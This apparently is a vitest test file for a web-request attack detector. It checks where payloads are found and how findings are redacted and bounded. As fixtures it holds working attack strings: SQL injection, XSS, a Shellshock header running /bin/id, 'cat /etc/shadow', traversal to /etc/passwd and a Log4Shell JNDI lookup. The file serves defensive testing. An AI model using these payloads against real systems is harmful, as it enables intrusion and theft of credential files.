import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { type ApiEvent, ATTACK_SCORE, emptyEvent, type Finding, type Json } from "../event.ts";
import { readCases } from "./cases.ts";
import { DETECTORS } from "./detectors.ts";
import { inspect } from "./inspect.ts";

const HERE = import.meta.dirname;
const BENIGN = join(HERE, "benign");

const of = (event: Partial<ApiEvent>): readonly Finding[] => inspect({ ...emptyEvent(), ...event });
const strongest = (event: Partial<ApiEvent>): Pick<Finding, "class" | "location"> | undefined => {
  const [first] = of(event);
  return first === undefined ? undefined : { class: first.class, location: first.location };
};

describe("where a payload is found", () => {
  it.each<[string, Partial<ApiEvent>, Pick<Finding, "class" | "location">]>([
    [
      "a query parameter",
      { "url.query": "a=1&q=1%27+or+%271%27%3D%271" },
      { class: "sqli", location: "query:q" },
    ],
    [
      "a query without names",
      { "url.query": "<script>alert(1)</script>" },
      { class: "xss", location: "query" },
    ],
    ["a parameter's name", { "url.query": "user[$ne]=1" }, { class: "nosqli", location: "query name" }],
    [
      "a path segment",
      { "url.path": "/items/1'%20or%201=1--/edit" },
      { class: "sqli", location: "path segment 2" },
    ],
    ["the path", { "url.path": "/static/../../../../etc/passwd" }, { class: "traversal", location: "path" }],
    [
      "the user agent",
      { "user_agent.original": "$\u007bjndi:ldap://x.example/a}" },
      { class: "log4shell", location: "header:user-agent" },
    ],
    [
      "a header",
      { "http.request.headers": { "x-id": "() { :;}; /bin/id" } },
      { class: "cmdi", location: "header:x-id" },
    ],
    [
      "the referer's query",
      { "http.request.headers": { referer: "https://a.example/?q=%3Cscript%3Ealert(1)%3C/script%3E" } },
      { class: "xss", location: "header:referer" },
    ],
    [
      "a cookie",
      { "http.request.headers": { cookie: "a=b; sid=%3Csvg%20onload=alert(1)%3E" } },
      { class: "xss", location: "cookie:sid" },
    ],
    [
      "a field of JSON",
      { "http.request.body": { items: [{}, { note: "x" }, { note: "<svg onload=alert(1)>" }] } },
      { class: "xss", location: "body.items[2].note" },
    ],
    [
      "a field of JSON text",
      { "http.request.body": '{"items":[{},{"note":"x"},{"note":"<svg onload=alert(1)>"}]}' },
      { class: "xss", location: "body.items[2].note" },
    ],
    [
      "a form field",
      { "http.request.body": "a=1&note=%3Csvg+onload%3Dalert(1)%3E" },
      { class: "xss", location: "body.note" },
    ],
    ["a plain body", { "http.request.body": "; cat /etc/shadow" }, { class: "cmdi", location: "body" }],
    [
      "an XML node",
      { "http.request.body": "<order><item>' or 1=1 --</item></order>" },
      { class: "sqli", location: "body/order/item" },
    ],
    [
      "an XML attribute",
      { "http.request.body": `<order><item id="' or 1=1 --"/></order>` },
      { class: "sqli", location: "body/order/item@id" },
    ],
    [
      "a GraphQL variable",
      {
        "http.request.body": {
          query: "query($id: ID!) { a(id: $id) { b } }",
          variables: { id: "1' or '1'='1" },
        },
      },
      { class: "sqli", location: "body.variables.id" },
    ],
  ])("names %s", (_, event, expected) => {
    expect(strongest(event)).toEqual(expected);
  });

  it("names multipart fields and file names", () => {
    const body = [
      '--b\r\nContent-Disposition: form-data; name="note"\r\n\r\n<svg onload=alert(1)>\r\n',
      '--b\r\nContent-Disposition: form-data; name="doc"; filename="x.php"\r\n\r\nhello\r\n--b--',
    ].join("");
    const found = of({
      "http.request.headers": { "content-type": "multipart/form-data; boundary=b" },
      "http.request.body": body,
    });
    expect(found.map(({ class: name, location }) => `${name} ${location}`)).toEqual([
      "xss multipart:note",
      "webshell multipart:doc filename",
    ]);
  });

  it("sniffs bodies whose content type is missing or wrong", () => {
    const json = {
      "http.request.headers": { "content-type": "text/plain" },
      "http.request.body": '{"a":"<svg onload=alert(1)>"}',
    };
    expect(strongest(json)?.location).toBe("body.a");
    const multipart = '--x\r\nContent-Disposition: form-data; name="f"\r\n\r\n<svg onload=alert(1)>\r\n--x--';
    expect(strongest({ "http.request.body": multipart })?.location).toBe("multipart:f");
  });

  it("sees every value of a repeated JSON key", () => {
    expect(strongest({ "http.request.body": '{"a":"<svg onload=alert(1)>","a":"x"}' })?.location).toBe(
      "body.a",
    );
  });

  it("joins repeated parameters, over which a payload can be split", () => {
    expect(strongest({ "url.query": "q=1 union/*&q=*/select 1,2,3 from users" })?.class).toBe("sqli");
  });
});

describe("what a finding shows", () => {
  it("shows the value as sent and as decoded", () => {
    const [found] = of({ "url.query": "q=1%2527%2520or%25201%253D1" });
    expect(found?.evidence).toBe("1%2527%2520or%25201%253D1");
    expect(found?.decoded).toBe("1' or 1=1");
  });

  it("cuts long values around the telling part", () => {
    const [found] = of({
      "http.request.body": { a: `${"x ".repeat(800)}<svg onload=alert(1)>${" y".repeat(800)}` },
    });
    expect(found?.decoded.length).toBeLessThanOrEqual(200);
    expect(found?.decoded).toContain("<svg onload=alert(1)>");
  });

  it("never shows a secret's letters", () => {
    const found = [
      ...of({ "url.query": "password=hunter2%27%20or%201=1--" }),
      ...of({ "http.request.body": { token: "s3cr3t<script>alert(1)</script>" } }),
      ...of({ "http.request.headers": { authorization: "Bearer s3cr3t' or 1=1 --" } }),
    ];
    expect(found.length).toBeGreaterThan(2);
    expect(JSON.stringify(found)).not.toMatch(/hunter|s3cr3t/);
    expect(found[0]?.decoded).toContain("'");
  });

  it("puts the strongest first and keeps one finding for each class and location", () => {
    const found = of({ "url.query": "a=%27+or+1=1--&b=..%2F..%2F..%2Fetc%2Fpasswd" });
    const scores = found.map(({ score }) => score);
    expect(scores).toEqual([...scores].sort((a, b) => b - a));
    const keys = found.map(({ class: name, location }) => `${name} ${location}`);
    expect(new Set(keys).size).toBe(keys.length);
  });
});

describe("normal traffic", () => {
  it.each(readdirSync(BENIGN))("%s holds no attack", (file) => {
    const alarmed = readCases(join(BENIGN, file)).filter(({ event }) =>
      inspect(event).some(({ score }) => score >= ATTACK_SCORE),
    );
    expect(alarmed.map(({ line }) => line)).toEqual([]);
  });

  it("costs nothing: the same frozen empty array", () => {
    const nothing = of({ "url.path": "/api/v1/users/42", "url.query": "page=2&sort=-created" });
    expect(nothing).toEqual([]);
    expect(of({ "url.path": "/about" })).toBe(nothing);
    expect(Object.isFrozen(nothing)).toBe(true);
  });
});

describe("anything is a value", () => {
  const within = (limit: number, event: Partial<ApiEvent>) => {
    const start = performance.now();
    const found = of(event);
    expect(performance.now() - start).toBeLessThan(limit);
    return found;
  };

  it("survives any event", () => {
    const text = fc.string({ unit: "binary", maxLength: 60 });
    const event = fc.record({
      path: text,
      query: text,
      agent: text,
      body: fc.oneof(text, fc.jsonValue()),
      header: text,
    });
    fc.assert(
      fc.property(event, ({ path, query, agent, body, header }) => {
        const found = of({
          "url.path": path,
          "url.query": query,
          "user_agent.original": agent,
          "http.request.body": body as Json,
          "http.request.headers": { cookie: header, "x-a": header, referer: header },
        });
        for (const { score, evidence, decoded } of found) {
          expect(score).toBeGreaterThan(0);
          expect(score).toBeLessThanOrEqual(1);
          expect(evidence.length).toBeLessThanOrEqual(200);
          expect(decoded.length).toBeLessThanOrEqual(200);
        }
      }),
      { numRuns: 500 },
    );
  });

  it("gives the same verdict twice", () => {
    const event = {
      "url.path": "/.env",
      "url.query": "q=<script>alert(1)</script>",
      "user_agent.original": "sqlmap/1.7",
    };
    expect(of(event)).toEqual(of(event));
    expect(of(event)).toEqual(of(event));
  });

  it("bounds deep, wide and long input", () => {
    const rulesOf = (event: Partial<ApiEvent>) => within(2_000, event).map(({ rule }) => rule);
    expect(rulesOf({ "http.request.body": `${"[".repeat(100_000)}${"]".repeat(100_000)}` })).toEqual([
      "other/nesting",
    ]);
    let deep: Json = "<svg onload=alert(1)>";
    for (let i = 0; i < 5_000; i++) deep = [deep];
    expect(within(2_000, { "http.request.body": deep }).length).toBeLessThanOrEqual(1);
    expect(rulesOf({ "url.query": "a=1&".repeat(250_000) })).toEqual(["other/parameter-flood"]);
    expect(within(2_000, { "url.query": "a=%27or+1=1&".repeat(100_000) }).length).toBeLessThanOrEqual(33);
    within(2_000, { "url.query": "%27<".repeat(2_500_000) });
  });

  it("finds a payload behind padding", () => {
    expect(strongest({ "url.query": `q=${"a".repeat(131_072)}<svg onload=alert(1)>` })?.class).toBe("xss");
    expect(strongest({ "http.request.body": { a: `${"word ".repeat(20_000)}' or 1=1 -- ` } })?.class).toBe(
      "sqli",
    );
  });

  it("is not confused by prototype keys", () => {
    const body = JSON.parse('{"__proto__":{"toString":"x"},"constructor":"y"}') as Json;
    expect(of({ "http.request.body": body })[0]?.class).toBe("prototype_pollution");
  });
});

describe("the detectors together", () => {
  it("cover each class once, and each has its cases", () => {
    const classes = DETECTORS.map(({ class: name }) => name);
    expect(new Set(classes).size).toBe(classes.length);
    for (const name of classes) {
      expect(readFileSync(join(HERE, name, "attacks.txt"), "utf8").split("\n").length).toBeGreaterThan(5);
    }
  });
});
